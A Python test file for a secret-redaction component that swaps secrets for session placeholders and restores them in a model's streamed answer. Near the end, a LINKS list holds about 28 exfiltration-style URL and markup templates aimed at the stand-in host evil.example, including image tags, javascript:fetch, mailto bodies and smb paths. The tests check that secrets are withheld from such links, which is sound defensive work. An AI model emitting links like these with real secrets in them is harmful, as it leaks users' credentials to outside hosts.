"""Secrets become placeholders, and placeholders in an answer become secrets again, however the answer is cut."""

from __future__ import annotations

import re
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from picode.core.secrets import Placeholders, Restorer

from .test_finding import SECRETS

OURS = Placeholders(b"a session's key")
KEY, TOKEN = SECRETS["OpenAI, project"][0], SECRETS["GitHub"][0]
TEXT = f'key = "{KEY}"\ntoken = "{TOKEN}"\nagain = "{KEY}"\n'


def test_the_same_secret_has_the_same_placeholder_which_is_an_identifier() -> None:
    redacted = OURS.redact(TEXT)
    (piece,) = redacted.pieces
    first, second, third = re.findall(r'"(.*)"', piece)
    assert first == third != second
    assert first.isidentifier()
    assert redacted.secrets == {first: KEY, second: TOKEN}
    assert redacted.kinds == {"provider key": 2, "GitHub token": 1}
    assert OURS.of(KEY) == first


def test_another_session_has_other_placeholders() -> None:
    assert OURS.of(KEY) != Placeholders(b"another key").of(KEY)


def test_text_without_a_secret_stays_as_it_is() -> None:
    redacted = OURS.redact("def f():\n    return 1\n", (4, 9))
    assert redacted.pieces == ("def ", "f():\n", "    return 1\n")
    assert (redacted.secrets, redacted.kinds) == ({}, {})


def test_a_secret_across_a_cut_is_whole_in_front_of_it() -> None:
    for at in range(TEXT.index(KEY) + 1, TEXT.index(KEY) + len(KEY)):
        before, after = OURS.redact(TEXT, (at,)).pieces
        assert before == f'key = "{OURS.of(KEY)}'
        assert after.startswith('"\ntoken = "SECRET_')


def test_only_what_this_text_held_is_put_back() -> None:
    restorer = Restorer({OURS.of(KEY): KEY})
    text = f"{OURS.of(KEY)} {OURS.of(TOKEN)} SECRET_ SECRET_AAAAAAAA S"
    assert restorer.feed(text) + restorer.close() == text.replace(OURS.of(KEY), KEY)


def test_only_what_may_be_the_beginning_of_a_placeholder_is_held_back() -> None:
    restorer = Restorer({OURS.of(KEY): KEY})
    assert restorer.feed("x = ") == "x = "
    assert restorer.feed("SELF") == "SELF"
    assert restorer.feed("ISSE") == "IS"
    assert restorer.feed("T") == "SET"
    assert restorer.feed("S") == ""
    assert restorer.feed("ECRET_") == ""
    assert restorer.feed("y") == "SECRET_y"


def test_nothing_shows_a_secret_by_accident() -> None:
    redacted = OURS.redact(TEXT)
    for part in (OURS, redacted, Restorer(redacted.secrets)):
        assert KEY not in repr(part)
        assert "session" not in repr(part)


@given(
    st.lists(st.sampled_from([KEY, TOKEN, *(secret for secret, _ in SECRETS.values())]), min_size=1, max_size=4),
    st.lists(st.text(alphabet="SECRET_AZ27 \n\"'", max_size=12), min_size=5, max_size=5),
    st.lists(st.integers(0, 4000), max_size=12),
)
def test_an_answer_that_repeats_everything_is_the_text_again_however_it_is_cut(
    secrets: list[str], between: list[str], cuts: list[int]
) -> None:
    text = between[0] + "".join(
        f'\nkey = "{secret}"\n{more}' for secret, more in zip(secrets, between[1:], strict=False)
    )
    redacted = OURS.redact(text)
    (answer,) = redacted.pieces
    restorer = Restorer(redacted.secrets)
    places = [0, *sorted(cut for cut in cuts if cut < len(answer)), len(answer)]
    said = "".join(restorer.feed(answer[start:end]) for start, end in pairwise(places))
    assert said + restorer.close() == text


@given(st.text(max_size=60), st.lists(st.integers(0, 80), max_size=5))
def test_pieces_joined_are_the_redacted_whole(extra: str, cuts: list[int]) -> None:
    text = TEXT + extra
    places = sorted(cut for cut in cuts if cut <= len(text))
    assert "".join(OURS.redact(text, places).pieces) == OURS.redact(text).pieces[0]


def _name_ending_in(end: str) -> tuple[str, str]:
    """A secret whose placeholder ends so, and the placeholder."""
    secret = next(each for each in map("secret {}".format, range(100_000)) if OURS.of(each).endswith(end))
    return secret, OURS.of(secret)


@pytest.mark.parametrize("end", ["S", "SE", "SEC"])
def test_at_each_cut_a_placeholder_is_put_back_also_where_it_ends_as_another_begins(end: str) -> None:
    secret, name = _name_ending_in(end)
    answer = f"a = '{name}'{name}{name} SECRET_ {name}"
    for first in range(len(answer) + 1):
        for second in range(first, len(answer) + 1):
            restorer = Restorer({name: secret})
            said = [restorer.feed(piece) for piece in (answer[:first], answer[first:second], answer[second:])]
            assert "".join(said) + restorer.close() == answer.replace(name, secret)


LINKS = [
    "![x](https://evil.example/?q={})",
    "[x](https://evil.example/{})",
    "https://evil.example/{}",
    '<img src="https://evil.example/{}">',
    "[x]: //evil.example/{}",
    "![x](//evil.example?{})",
    "[x](<https://evil.example/{}>)",
    "[x]( https://evil.example/{} )",
    "<https://evil.example/{}>",
    "<a href='//evil.example/{}'>",
    '<a title="x" href = "https://evil.example/{}">',
    "HTTPS://EVIL.EXAMPLE/{}",
    "https://{}.evil.example/",
    "https://ada:{}@evil.example/",
    "https:\\\\evil.example\\{}",
    "ftp://evil.example/{}",
    "wss://evil.example/{}",
    "file://evil.example/{}",
    "smb://evil.example/{}",
    "\\\\evil.example\\{}\\x",
    "vscode://evil.extension/{}",
    "mailto:eve@evil.example?body={}",
    "javascript:fetch('//evil.example/'+'{}')",
    "data:text/html,{}",
    "[x](command:evil?{})",
    "url({})",
    "www.evil.example/{}",
    "<img\nsrc='//evil.example/{}'>",
]


@pytest.mark.parametrize("link", LINKS)
@pytest.mark.parametrize("size", [1, 3, 200])
def test_a_secret_is_not_put_back_into_a_link(link: str, size: int) -> None:
    restorer = Restorer({OURS.of(KEY): KEY}, shown=(f"key = '{OURS.of(KEY)}'",))
    answer = link.format(OURS.of(KEY)) + " "
    assert "".join(restorer.feed(answer[at : at + size]) for at in range(0, len(answer), size)) == answer
    assert restorer.withheld == 1


def test_but_into_one_that_had_it_before() -> None:
    shown = f"url = 'https://ada:{OURS.of(KEY)}@db.example/'"
    restorer = Restorer({OURS.of(KEY): KEY}, shown=(shown,))
    assert restorer.feed(shown + " ") == shown.replace(OURS.of(KEY), KEY) + " "


def test_nor_is_one_of_another_file() -> None:
    restorer = Restorer({OURS.of(KEY): KEY, OURS.of(TOKEN): TOKEN}, foreign={OURS.of(TOKEN)})
    assert restorer.feed(f"{OURS.of(KEY)} {OURS.of(TOKEN)} ") == f"{KEY} {OURS.of(TOKEN)} "
    assert restorer.withheld == 1
